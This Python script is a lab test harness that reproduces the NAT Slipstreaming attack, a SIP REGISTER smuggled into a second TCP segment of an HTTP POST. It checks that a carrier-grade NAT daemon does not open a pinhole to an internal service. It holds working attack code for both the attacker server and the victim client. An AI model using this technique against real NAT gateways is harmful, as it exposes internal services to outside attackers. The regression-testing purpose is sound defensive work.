#!/usr/bin/env python3
"""NAT Slipstreaming v1 (Samy Kamkar, 2020), reproduced for lab/tests/sip_alg.sh.

A browser in the subscriber's network is made to POST to an attacker's server on TCP 5060. The
body is sized so that the second TCP segment begins with a SIP REGISTER whose Via/Contact name
an internal service (here 100.64.0.9:3306). A naive SIP ALG that scans every segment for SIP
rewrites that Contact and opens a pinhole to the internal port; the attacker's server answers
200 OK and connects to it. cgnatd must recognise SIP on TCP only from the start of the stream.

Roles:
  slipstream.py server ADDRESS TIMEOUT_S RECEIVED_FILE  (cgn-inet: the attacker)
  slipstream.py client SUBSCRIBER SERVER TIMEOUT_S      (cgn-sub: the victim's browser + service)
The server exits 1 if it managed to connect to the internal service through the NAT; the
client exits 1 if its internal service accepted any connection. Both print what they saw.
"""
import socket
import sys
import threading
import time

SERVICE_PORT = 3306
SIP_PORT = 5060


def server(address: str, timeout: float, received_file: str) -> int:
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((address, SIP_PORT))
    ls.listen(1)
    ls.settimeout(timeout)
    conn, peer = ls.accept()
    conn.settimeout(5)
    data = b""
    try:
        while b"REGISTER" not in data or not data.endswith(b"\r\n\r\n"):
            chunk = conn.recv(65535)
            if not chunk:
                break
            data += chunk
    except socket.timeout:
        pass
    with open(received_file, "wb") as f:
        f.write(data)
    # What the attacker would learn from the (possibly rewritten) Contact.
    contact = b""
    for line in data.split(b"\r\n"):
        if line.lower().startswith(b"contact:"):
            contact = line
    print(f"server: connection from {peer[0]}:{peer[1]}, {len(data)} bytes, {contact.decode(errors='replace')}")
    conn.sendall(
        b"SIP/2.0 200 OK\r\nVia: SIP/2.0/TCP 100.64.0.9:3306;branch=z9hG4bK-slip\r\n"
        b"From: <sip:x@198.51.100.6>;tag=a\r\nTo: <sip:x@198.51.100.6>;tag=b\r\n"
        b"Call-ID: slip\r\nCSeq: 1 REGISTER\r\n"
        b"Contact: <sip:x@100.64.0.9:3306;transport=tcp>;expires=3600\r\nContent-Length: 0\r\n\r\n"
    )
    time.sleep(0.5)
    targets = {(peer[0], SERVICE_PORT)}
    text = contact.decode(errors="replace")
    if "@" in text:
        hostport = text.split("@", 1)[1].split(";", 1)[0].split(">", 1)[0]
        host, _, port = hostport.partition(":")
        if port.isdigit() and not host.startswith("100.64."):
            targets.add((host, int(port)))
    breached = False
    for t in sorted(targets):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(t)
            print(f"server: CONNECTED to {t[0]}:{t[1]} -- pinhole to the internal service")
            breached = True
        except OSError as e:
            print(f"server: connect to {t[0]}:{t[1]} failed ({e.__class__.__name__}): no pinhole")
        finally:
            s.close()
    conn.close()
    return 1 if breached else 0


def client(subscriber: str, server_ip: str, timeout: float) -> int:
    accepted = []
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((subscriber, SERVICE_PORT))
    ls.listen(4)
    ls.settimeout(0.2)
    stop = time.monotonic() + timeout

    def serve():
        while time.monotonic() < stop:
            try:
                c, peer = ls.accept()
                accepted.append(peer)
                c.close()
            except socket.timeout:
                continue

    th = threading.Thread(target=serve, daemon=True)
    th.start()

    register = (
        f"REGISTER sip:{server_ip} SIP/2.0\r\n"
        f"Via: SIP/2.0/TCP {subscriber}:{SERVICE_PORT};branch=z9hG4bK-slip\r\n"
        f"From: <sip:x@{server_ip}>;tag=a\r\nTo: <sip:x@{server_ip}>\r\n"
        "Call-ID: slip\r\nCSeq: 1 REGISTER\r\n"
        f"Contact: <sip:x@{subscriber}:{SERVICE_PORT};transport=tcp>\r\n"
        "Expires: 3600\r\nContent-Length: 0\r\n\r\n"
    ).encode()
    head = (
        f"POST /samy.php HTTP/1.1\r\nHost: {server_ip}:{SIP_PORT}\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {1000 + len(register)}\r\n\r\n"
    ).encode()
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.bind((subscriber, 0))
    s.settimeout(5)
    s.connect((server_ip, SIP_PORT))
    # First segment: the HTTP request and padding; second segment: starts with REGISTER.
    s.sendall(head + b"x" * 1000)
    time.sleep(0.3)
    s.sendall(register)
    try:
        first = s.recv(65535).split(b"\r\n", 1)[0].decode(errors="replace")
        print(f"client: answer {first!r}")
    except socket.timeout:
        print("client: no answer")
    th.join()
    s.close()
    if accepted:
        print(f"client: the internal service {subscriber}:{SERVICE_PORT} ACCEPTED {accepted}")
        return 1
    print(f"client: the internal service {subscriber}:{SERVICE_PORT} accepted nothing")
    return 0


if __name__ == "__main__":
    if sys.argv[1] == "server":
        sys.exit(server(sys.argv[2], float(sys.argv[3]), sys.argv[4]))
    sys.exit(client(sys.argv[2], sys.argv[3], float(sys.argv[4])))
